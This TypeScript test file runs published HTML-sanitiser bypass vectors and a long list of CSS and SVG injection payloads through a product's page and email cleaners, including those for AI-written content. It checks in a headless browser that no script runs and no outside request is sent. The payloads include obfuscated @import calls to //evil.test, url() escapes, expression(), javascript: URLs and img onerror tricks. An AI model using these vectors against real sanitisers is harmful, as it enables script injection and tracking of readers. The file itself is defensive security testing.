// Published bypasses of HTML sanitisers in a browser, as pages and as emails, by people and by the AI: no script runs, and no
// request leaves but for the pictures and fonts of emails. Each is visited with the headers of its response, and without them,
// so that only the cleaner protects.
import { readEmail } from "@tentpole/adapters/ai/EmailPrompt"
import { cleanEmail } from "@tentpole/adapters/ai/html/SanitizeEmail"
import { clean } from "@tentpole/adapters/ai/html/SanitizeHtml"
import { readPage } from "@tentpole/adapters/ai/PagePrompt"
import { atOnce } from "@tentpole/core/contract"
import { blankContact } from "@tentpole/core/contacts/Contact"
import { cleanUnlessSafe } from "@tentpole/core/documents/Clean"
import { ApprovalId, ContactId, EmailId, TentId, WorkspaceId } from "@tentpole/core/kernel/Ids"
import { compile } from "@tentpole/core/rendering/Compile"
import { inProcess } from "@tentpole/core/ports/Parsers"
import { renderContent } from "@tentpole/core/rendering/Render"
import { toPublished } from "@tentpole/core/tents/pages/PageDocument"
import { contentSecurityPolicy } from "@tentpole/http/pages/PageAnswers"
import { messagePage } from "@tentpole/http/tracking/TrackingAnswers"
import { DateTime, Effect, Result } from "effect"
import { readFileSync } from "node:fs"
import type { Browser } from "playwright-core"
import { afterAll, assert, beforeAll, describe, it, vi } from "vitest"
import { launch, none } from "./Browser.ts"

vi.setConfig({ testTimeout: 600_000, hookTimeout: 300_000 })

interface Vectors {
  readonly licence: string
  readonly vectors: ReadonlyArray<string>
}

const published = (name: string): ReadonlyArray<string> => {
  const read: Vectors = JSON.parse(readFileSync(new URL(`../fixtures/vectors/${name}.json`, import.meta.url), "utf8"))
  return read.vectors
}

/** Style sheets and styles that load or run something. */
const styles: ReadonlyArray<string> = [
  ...[
    `@import "//evil.test/a.css";`,
    `@IMPORT url(//evil.test/a.css) screen;`,
    `@\\69mport "//evil.test/a.css";`,
    `@im\\70 ort url("//evil.test/a.css")`,
    `@charset "utf-8";@import "//evil.test/a.css";`,
    `@layer a;@import "//evil.test/a.css" layer(a);`,
    `/* */@import/**/"//evil.test/a.css";`,
    `<!--@import "//evil.test/a.css";-->`,
    `@im<!--port "//evil.test/a.css";`,
    `@imp@import x;ort "//evil.test/a.css";`,
    `@@import x;import "//evil.test/a.css";`,
    `/*";*/@import "//evil.test/a.css";/*"*/`,
    `x{content:"/*"}@import "//evil.test/a.css";`,
    `@import "//evil.test/a.css" supports(display:grid);`,
    `@media all{@import "//evil.test/a.css";}`,
    `@namespace x url(//evil.test/a);@import "//evil.test/a.css";`,
    `@import\nurl(\n"//evil.test/a.css"\n);`,
    `@font-face{font-family:x;src:url(//evil.test/f.woff2)}*{font-family:x}`,
    `p{behavior:url(//evil.test/x.htc);-moz-binding:url(//evil.test/x.xml#a)}`,
    `p{width:expression(alert(1));background:url(javascript:alert(1))}`,
    `</style><script>alert(1)</script>`,
    `<\\/style><img src=x onerror=alert(1)>`,
    `a{}</sty@import x;le><img src=x onerror=alert(1)>`,
    `${"(".repeat(300)}@import "//evil.test/a.css";`,
    `p{a:(;}@import "//evil.test/a.css";`,
    `p{a:"\n}@import "//evil.test/a.css";`,
    `p{a:url(x y"}@import "//evil.test/a.css";`,
  ].map((sheet) => `<style>${sheet}</style><p>x</p>`),
  ...[
    "background:url(//evil.test/a)",
    "background:url( '\\2f/evil.test/a' )",
    "background:u\\72l(http://evil.test/a)",
    "background:url(http:evil.test/a)",
    "background:url(\\\\evil.test/a)",
    "background:image-set('//evil.test/a' 1x, url(//evil.test/b) 2x)",
    "background:-webkit-image-set(url(//evil.test/a) 1x)",
    "background:-webkit-cross-fade(url(//evil.test/a),url(//evil.test/b),50%)",
    "--a:'//evil.test/a';background:image-set(var(--a) 1x)",
    "--a:url(//evil.test/a);background:var(--a)",
    "list-style:url(//evil.test/a);display:list-item",
    "content:url(//evil.test/a)",
    "cursor:url(//evil.test/a),auto",
    "border-image-source:url(//evil.test/a);border:1px solid",
    "mask-image:url(//evil.test/a)",
    "shape-outside:url(//evil.test/a);float:left",
    "color:red;;;background:url(//evil.test/a",
    "color:red}@import '//evil.test/a.css';",
    "filter:url(//evil.test/a.svg#a)",
    "clip-path:url('//evil.test/a.svg#a')",
  ].flatMap((style) => [`<p style="${style}">x</p>`, `<style>p{${style}}</style><p>x</p>`]),
  `<svg width=9 height=9><rect width=9 height=9 fill="url(//evil.test/a.svg#a)" stroke="url('//evil.test/a.svg#a')"/></svg>`,
  `<svg width=9 height=9><rect width=9 height=9 style="fill:url(//evil.test/a.svg#a)"/></svg>`,
  `<svg width=9 height=9><rect width=9 height=9 fill="u\\72l(//evil.test/a.svg#a)"/></svg>`,
  `<svg width=9 height=9><path d="M0 0L9 9" style="marker-start:url(//evil.test/a.svg#a)"/></svg>`,
  `<svg><style>@import "//evil.test/a.css";</style></svg>`,
  `<svg><style><![CDATA[@import "//evil.test/a.css";]]></style></svg>`,
  `<svg><style>@im<b>port "//evil.test/a.css";</b></style></svg>`,
]

const tentId = TentId.make("018f0000-0000-7000-8000-000000000001")
const contact = blankContact(ContactId.make("018f0000-0000-7000-8000-000000000002"), DateTime.makeUnsafe(0))
const link = (path: string) => `http://pages.localhost/${path}`
const addresses = { open: link("o/"), click: link("c/"), unsubscribe: link("u/"), view: link("v/") }
const links = { ...addresses, token: () => "x", click: () => link("c/x") }
const sender = {
  workspaceId: WorkspaceId.make("018f0000-0000-7000-8000-000000000003"),
  workspaceName: "Acme",
  publicName: "Acme",
  postalAddress: null,
}

const message = (html: string): string => {
  const approved = {
    approvalId: ApprovalId.make("018f0000-0000-7000-8000-000000000004"),
    emailId: EmailId.make("018f0000-0000-7000-8000-000000000005"),
    version: 1,
    subject: "Hello",
    previewText: null,
    fromName: "Acme",
    fromAddress: "news@example.test",
    replyToEmail: "reply@example.test",
    html,
    text: "",
    approvedAt: DateTime.makeUnsafe(0),
  }
  const compiled = compile(approved, sender, { operational: true, tracked: false, addresses })
  return atOnce(renderContent(compiled, { contact, dynamic: {}, links })).html
}

const answer = (html: string): string => `Subject: Hello\nPreview: Hi\n<!doctype html><html><body>${html}</body></html>`
const page = (html: string): string => toPublished(html, { tentId, branding: true })
const pageHeaders = { "content-security-policy": contentSecurityPolicy(null) }
const messageHeaders = messagePage("").headers

const cleanByPeople = cleanUnlessSafe((html) => Effect.fromResult(clean(html)), inProcess)

type Served = Result.Result<string, unknown>

interface Author {
  readonly name: string
  readonly serve: (html: string) => Served
  readonly headers: Readonly<Record<string, string>>
  /** The kinds of resources that the document may load from other hosts. */
  readonly loads: ReadonlyArray<string>
}

const authors: ReadonlyArray<Author> = [
  {
    name: "a page",
    serve: (html) => Result.map(Effect.runSync(Effect.result(cleanByPeople(html, sender.workspaceId))), page),
    headers: pageHeaders,
    loads: [],
  },
  {
    name: "a page of the AI",
    serve: (html) => Result.map(Result.flatMap(readPage(answer(html)), clean), page),
    headers: pageHeaders,
    loads: [],
  },
  {
    name: "an email",
    serve: (html) => Result.map(cleanEmail(html), message),
    headers: messageHeaders,
    loads: ["image", "font"],
  },
  {
    name: "an email of the AI",
    serve: (html) =>
      Result.map(
        Result.flatMap(readEmail(answer(html)), (written) => cleanEmail(written.html)),
        message,
      ),
    headers: messageHeaders,
    loads: ["image", "font"],
  },
]

/** What happened during a visit and must not. */
interface Visit {
  readonly scripts: ReadonlyArray<string>
  readonly requests: ReadonlyArray<string>
  /** Attributes that run a script when a person uses the element. */
  readonly traps: ReadonlyArray<string>
}

/** Called on prototypes, because a form's fields can hide its properties. */
const findTraps = `[...Document.prototype.querySelectorAll.call(document, "*")].flatMap((element) =>
  Element.prototype.getAttributeNames.call(element)
    .map((name) => [name, Element.prototype.getAttribute.call(element, name)])
    .filter(([name, value]) => /^on/i.test(name) ||
      /^(xlink:href|href|src|action|formaction|data|srcdoc|poster|background)$/i.test(name) &&
      /^(javascript|vbscript|data:text)/i.test(value.replace(/[\\u0000-\\u0020\\u007f-\\u00a0]/g, "")))
    .map(([name, value]) => element.tagName + " " + name + "=" + value))`

const origin = "http://pages.localhost"

/** A function that visits a document in a tab. Every request of the tab is answered or refused here. */
const visitor = async (browser: Browser) => {
  const context = await browser.newContext({ serviceWorkers: "block" })
  const tab = await context.newPage()
  const scripts: Array<string> = []
  const requests: Array<{ readonly url: string; readonly type: string }> = []
  let served = { body: "", headers: {} }
  let visits_count = 0
  const address = () => `${origin}/${visits_count}`
  await context.route(
    () => true,
    (route) => {
      const request = route.request()
      if (request.url() === address()) return route.fulfill({ ...served, contentType: "text/html; charset=utf-8" })
      requests.push({ url: request.url(), type: request.resourceType() })
      return route.abort()
    },
  )
  tab.on("dialog", (dialog) => {
    scripts.push(`${dialog.type()} ${dialog.message()}`)
    void dialog.dismiss()
  })
  const debug = await context.newCDPSession(tab)
  await debug.send("Debugger.enable")
  // The test's own scripts have no URL.
  debug.on("Debugger.scriptParsed", ({ url }) => url !== "" && scripts.push(`a script of ${url}`))
  return async (
    body: string,
    headers: Readonly<Record<string, string>>,
    loads: ReadonlyArray<string>,
  ): Promise<Visit> => {
    visits_count++
    served = { body, headers }
    scripts.length = 0
    requests.length = 0
    await tab.goto(address())
    // Events of the debugger arrive before the answer to a later command.
    await debug.send("Runtime.evaluate", { expression: "0" })
    const ran = [...scripts]
    const sent = requests.filter(
      ({ type, url }) => !loads.includes(type) && !(url.startsWith(`${origin}/`) && ["image", "media"].includes(type)),
    )
    return {
      scripts: ran,
      requests: sent.map(({ type, url }) => `${type} ${url}`),
      traps: await tab.evaluate(findTraps),
    }
  }
}

/** `npm test` visits a part of the vectors, `npm run test:attacks` all. */
const each = process.env["ATTACKS"] === "all" ? 1 : 16
const sampleOf = (vectors: ReadonlyArray<string>) => vectors.filter((_, index) => index % each === 0)

const nothing: Visit = { scripts: [], requests: [], traps: [] }

const browser: Browser | null = await launch()
if (browser === null) console.warn(none)

describe.skipIf(browser === null)("HTML that bypassed other sanitisers", () => {
  let visit: Awaited<ReturnType<typeof visitor>>
  beforeAll(async () => {
    visit = await visitor(browser ?? assert.fail(none))
  })
  afterAll(() => browser?.close())

  describe.each(authors)("as $name", ({ headers, loads, serve }) => {
    it.each([
      ["DOMPurify's tests", published("dompurify")],
      ["sanitize-html's tests", published("sanitize-html")],
      ["styles", styles],
    ])("runs no script and sends no request: %s", { tags: ["attack/page-script"] }, async (_, vectors) => {
      const harm: Array<unknown> = []
      for (const vector of sampleOf(vectors)) {
        const outcome = serve(vector)
        if (Result.isFailure(outcome)) continue
        const visits = [
          await visit(outcome.success, headers, loads),
          // Pictures and fonts of other hosts are left to the content policy.
          await visit(outcome.success, {}, ["image", "media", "font"]),
        ]
        for (const found of visits) {
          if (JSON.stringify(found) !== JSON.stringify(nothing)) harm.push({ vector, served: outcome.success, found })
        }
      }
      assert.deepStrictEqual(harm, [])
    })
  })

  it("is noticed without a sanitiser: scripts, requests and traps", async () => {
    const found = await visit(
      `<a href=" javascript:x()">a</a><script>1</script><img src=x onerror=2><style>@import "//evil.test/a.css"</style>`,
      {},
      [],
    )
    assert.lengthOf(found.scripts, 2)
    assert.deepStrictEqual(found.requests, ["stylesheet http://evil.test/a.css"])
    assert.lengthOf(found.traps, 2)
  })
})
